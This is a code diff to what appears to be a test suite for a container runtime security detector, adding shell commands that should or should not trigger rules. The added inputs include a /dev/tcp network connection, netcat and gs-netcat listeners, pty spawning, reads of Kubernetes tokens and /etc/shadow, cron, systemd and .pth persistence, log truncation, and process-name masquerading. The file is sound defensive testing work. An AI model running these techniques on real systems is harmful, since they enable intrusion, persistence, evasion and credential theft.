@@ -241,7 +241,11 @@ PRETENDERS = {
                               "ln -s /usr/bin/dpkg /tmp/job; cp /tmp/job /opt/cron; /opt/cron write /etc/cron.d/job"],
     "System program written": ["/usr/bin/npm run /opt/t/deed write /usr/bin/tool", "ln -s /opt/t/deed /usr/bin/link1", "ln /usr/bin/dpkg /usr/bin/link2",
                                "mv /usr/bin/link1 /usr/bin/link3",
-                               "deed as dpkg write /usr/bin/tool", "echo dpkg >/proc/$$/comm; deed write /usr/bin/tool"],
+                               "deed as dpkg write /usr/bin/tool", "echo dpkg >/proc/$$/comm; deed write /usr/bin/tool",
+                               "npx deed write /usr/bin/tool", "echo ': >/usr/bin/tool' >/opt/npx; node /opt/npx",
+                               "cp /usr/bin/node /opt/node; /opt/node /usr/bin/npx"],
+    "Program was written in the container": ["cp /opt/t/deed /opt/n1; printf '#!/usr/bin/node\\n/opt/n1 nothing\\n' >/usr/bin/npx-x; "
+                                             "chmod 755 /usr/bin/npx-x; node /usr/bin/npx-x; rm /usr/bin/npx-x"],
     "Accounts changed by hand": ["/opt/t/useradd write /etc/passwd"],
     "Secret file linked or moved": ["mv /etc/shadow /etc/sh; mv /etc/sh /etc/shadow"],
     "Service written": ["deed as systemctl write /etc/systemd/system/x.service"],
@@ -259,7 +263,9 @@ PRETENDERS = {
     "File system debugger runs": ["ln -s /opt/t/debugfs /tmp/fs; /tmp/fs"],
     "Netcat listens": ["ln -s /opt/t/nc /tmp/n; /tmp/n -l -p 4444"],
     "Shell connects to the network": ["exec 3>/proc/$$/comm; echo app >&3; : </dev/tcp/203.0.113.9/443"],
-    "Shell started by a server": ["nginx as app run sh -c :"],
+    "Shell started by a server": ["nginx as app run sh -c :", "postgres run sh -c 'cp pg_wal/01 /opt/01; id' || :",
+                                  "postgres run sh -c 'python3 nothing pg_wal/01'",
+                                  "ln -s /opt/t/deed /opt/cp; postgres run sh -c '/opt/cp pg_wal/01 /opt/01' || :"],
     "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket; exec(x)'", "perl -e 'use Socket; system(1)'",
                                                     "python3 -c 'import pty; pty.spawn(1)'",
                                                     "python3 -c 'exec(urlopen(1).read())'",
@@ -299,10 +305,12 @@ OTHER_WAYS = {
     "SSH private key read": ["mkdir -p /etc/ssh; : >/etc/ssh/ssh_host_rsa_key; cat /etc/ssh/ssh_host_rsa_key"],
     "Own memory written by file": ["busybox dd if=/dev/null of=/proc/self/mem count=0", "cp /opt/t/deed /opt/cow; /opt/cow write /proc/self/mem"],
     "Account with root's number made": ["usermod --uid=0 x", "useradd -ou0 x"],
-    "Hook of the system written": ["mkdir -p /etc/xdg/autostart; ln -s /tmp/file /etc/xdg/autostart/x.desktop", "deed write /opt/sitecustomize.py"],
+    "Hook of the system written": ["mkdir -p /etc/xdg/autostart; ln -s /tmp/file /etc/xdg/autostart/x.desktop", "deed write /opt/sitecustomize.py",
+                                   "mkdir -p /usr/lib/python3; deed write /usr/lib/python3/x.pth"],
     "Setuid programs searched for": ["find / -maxdepth 0 -perm /u=s,g=s", "getcap -r /"],
     "Kernel log read": [": >/dev/kmsg; deed read /dev/kmsg; rm /dev/kmsg"],
-    "Shell started by a server": ["php-fpm8.2 run sh -c :", "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i; id'"],
+    "Shell started by a server": ["java run sh -c : -Dcatalina.base=/usr/local/tomcat",
+                                  "php-fpm8.2 run sh -c :", "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i; id'"],
     "Keys searched for": ["find / -maxdepth 1 -name '*.pem'"],
     "Service account token read by a tool": ["busybox cat /run/secrets/kubernetes.io/serviceaccount/token",
                                              "nl /run/secrets/kubernetes.io/serviceaccount/token",
@@ -329,7 +337,7 @@ OTHER_WAYS = {
     "Pod manifest written": ["mv /tmp/file /etc/kubernetes/manifests/moved.yaml; : >/tmp/file"],
     "Way of logging in changed": ["ln -s /tmp/file /etc/pam.d/common-x", "mkdir -p /usr/lib/security; deed write /usr/lib/security/pam_x.so"],
     "Scheduled job written": ["mv /tmp/file /etc/cron.d/moved; : >/tmp/file", ": >/etc/job; ln /etc/job /etc/cron.d/linked",
-                              "ln -s /tmp/file /etc/cron.d/link"],
+                              "ln -s /tmp/file /etc/cron.d/link", "mkdir -p /etc/periodic/daily; deed write /etc/periodic/daily/x"],
     "SSH authorized keys written": ["mv /tmp/file /root/.ssh/authorized_keys; : >/tmp/file"],
     "Library preloaded into every program": ["mv /tmp/file /etc/ld.so.preload; unlink /etc/ld.so.preload; : >/tmp/file"],
     "Accounts changed by hand": ["cp /etc/hosts /etc/group.new; mv /etc/group.new /etc/group"],
@@ -338,6 +346,7 @@ OTHER_WAYS = {
                         "mkdir -p /run/systemd/system; deed write /run/systemd/system/x.service",
                         "mkdir -p /root/.config/systemd/user; deed write /root/.config/systemd/user/x.service",
                         "mkdir -p /etc/udev/rules.d; deed write /etc/udev/rules.d/x.rules",
+                        "mkdir -p /etc/containers/systemd; deed write /etc/containers/systemd/x.container",
                         "mkdir -p /etc/rc2.d; ln -s ../init.d/x /etc/rc2.d/S99x",
                         "mkdir /docker-entrypoint.d; deed write /docker-entrypoint.d/x.sh"],
     "Loader's paths written": ["deed write /etc/ld.so.cache; rm /etc/ld.so.cache", "mv /tmp/file /etc/ld.so.conf.d/moved.conf; : >/tmp/file"],
@@ -346,7 +355,9 @@ OTHER_WAYS = {
     "Program runs from shared memory": ["printf '#!/bin/sh\\n:\\n' >/dev/shm/s; chmod 755 /dev/shm/s; /dev/shm/s", "bash /dev/shm/s"],
     "Program runs from a temporary directory": ["printf '#!/bin/sh\\n:\\n' >/tmp/s; chmod 755 /tmp/s; cd /tmp; ./s"],
     "Hidden file made where all can write": ["mkdir /tmp/.dir"],
-    "Server starts a tool": ["postgres run /bin/ls"],
+    "Server starts a tool": ["postgres run /bin/ls", "java run id -Dcatalina.base=/usr/local/tomcat"],
+    "Tool for containers or clusters runs": ["etcdctl get / --prefix", "oc get secrets"],
+    "Tunnel made": ["gs-netcat -l"],
     "Setuid bit set": ["deed setuid open /tmp/suid1", "deed setuid openat2 /tmp/suid2", "deed setuid node /tmp/suid3",
                        "chmod 2755 /tmp/file; chmod 755 /tmp/file"],
     "Log emptied": [": >/tmp/auth.log", "deed truncate /var/log/b.log", "truncate -s 0 /var/log/b.log"],
@@ -369,19 +380,31 @@ RIGHTFUL = {
     "Accounts changed by hand": ["adduser", "addgroup", "/usr/bin/chsh write /etc/passwd", "/usr/bin/gpasswd write /etc/group"],
     "Raw socket made": ["traceroute raw"],  # a link to one of some
     "Password hashes read": ["/opt/t/../../usr/bin/sshd read /etc/shadow", "/usr/bin/gpasswd read /etc/shadow", "/usr/bin/psql read /etc/shadow"],
-    "System program written": ["/usr/bin/npm write /usr/bin/tool"],
+    "System program written": ["/usr/bin/npm write /usr/bin/tool", "npx"],
+    "Program was written in the container": ["cp /opt/t/deed /opt/n2; npx /opt/n2 nothing"],
+    "Hook of the system written": ["mkdir -p /usr/lib/python3; /usr/bin/npm write /usr/lib/python3/y.pth", "deed write /opt/z.pth"],
+    "Tool for containers or clusters runs": ["etcdctl endpoint health"],
+    "Shell with a terminal": ["echo : >/opt/script; /usr/bin/dpkg terminal sh /opt/script"],
+    "Shell reads from the network": ["mkdir -p /usr/sbin; "
+                                     "cp /opt/t/deed /usr/sbin/sshd; /usr/sbin/sshd socket-stdin /usr/sbin/sshd nothing; rm /usr/sbin/sshd"],
+    "Hidden file made where all can write": ["postgres write /tmp/.s.PGSQL.5432.lock", "php-fpm8.2 write /tmp/.ZendSem.x"],
+    "Scheduled job written": ["/usr/bin/tdnf write /etc/cron.d/job"],
+    "Server starts a tool": ["postgres run cp pg_wal/01 /opt/01 || :"],
     "Setuid bit set": ["mkdir /tmp/shared; chmod 3775 /tmp/shared; chmod g+s /tmp/shared; chmod 2775 /tmp/shared"],
     "Keys searched for": ["find /opt -name '*.pem'", "grep -c x /tmp/cert.pem"],
     "Ransom note written": ["deed write /tmp/RansomwareDetection.php", "deed write /tmp/restore_files.sh"],
     "File got a ransomware's ending": ["mv /tmp/file /tmp/credentials.yml.enc; mv /tmp/credentials.yml.enc /tmp/file"],
     "Way of logging in changed": ["deed write /tmp/pam_test.c"],
-    "Shell started by a server": ["php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i '",
+    "Shell started by a server": ["java run sh -c : -Dhadoop.home.dir=/opt/hadoop",
+                                "postgres run sh -c 'test ! -f /opt/01 && cp \"pg_wal/000000010000000000000001\" /opt/01' || :",
+                                "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i '",
                                 "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i -fpost@example.org'"],
     "Download goes into a shell": ["sh -c '[ \"$(curl -s http://x.invalid/a)\" = 200 ] || exit 1'",
                                    "sh -c 'curl -sf http://x.invalid/a || sh -c :'", "sh -c 'rsync x.invalid: | sh'"],
     "Everything removed": ["a=({1..1000}); /opt/t/rm -rf -vvvv ${a[@]/#/\\/usr\\/x}"],
 }
-SCRIPTS = {"adduser": "#!/bin/bash -e\n: >>/etc/passwd\n", "addgroup": "#!/bin/sh\n: >>/etc/passwd\n"}
+SCRIPTS = {"npx": "#!/usr/bin/env node\nif [ \"$1\" ]; then \"$@\"; else : >>/usr/bin/tool; fi\n",
+           "adduser": "#!/bin/bash -e\n: >>/etc/passwd\n", "addgroup": "#!/bin/sh\n: >>/etc/passwd\n"}
 
 # Of containers that engines make, with the rights that they give: of the image's own programs.
 ENGINES_DEEDS = {
@@ -406,8 +429,8 @@ CHANGED = "Argument changed under a call"
 OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}
 
 # Programs by other names; what they do is said by their first argument.
-NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb getcap iptables kubectl kubelet
-kworker linpeas.sh linpeas.txt login logrotate map nc nginx nmap openssl perl php-fpm8.2 php8.2 ping pkexec pkill postgres python3 rm sha1sum socat ssh
+NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter etcdctl gdb getcap gs-netcat iptables java kubectl kubelet
+kworker linpeas.sh linpeas.txt login logrotate map nc nginx nmap oc openssl perl php-fpm8.2 php8.2 ping pkexec pkill postgres python3 rm sha1sum socat ssh
 sshd sshdd sshh strace sudoedit systemctl systemd useradd usermod worker""".split()
 
 # What the deeds find there; a line each.
@@ -431,7 +454,7 @@ exec /bin/pause
 
 # Of these the system has one, too.
 OF_THE_SYSTEM = """apt-get chsh criu gpasswd rpm dpkg gdb kubelet npm perl ping runc scp ssh-add sshd sshd-session strace systemctl systemd
-traceroute.db useradd""".split()
+tdnf traceroute.db useradd""".split()
 
 
 def more_deeds():
@@ -466,6 +489,7 @@ def make_image(setup):
         os.link(root + "/opt/t/deed", f"{root}/usr/bin/{name}")
     os.symlink("traceroute.db", root + "/usr/bin/traceroute")
     os.symlink("perl", root + "/usr/bin/psql")  # as a script is, of another file
+    shutil.copy(os.path.join(setup.root, "usr/bin/bash"), root + "/usr/bin/node")  # which executes the scripts here
     for name, text in SCRIPTS.items():
         write(root, "/usr/bin/" + name, text)
         os.chmod(f"{root}/usr/bin/{name}", 0o755)
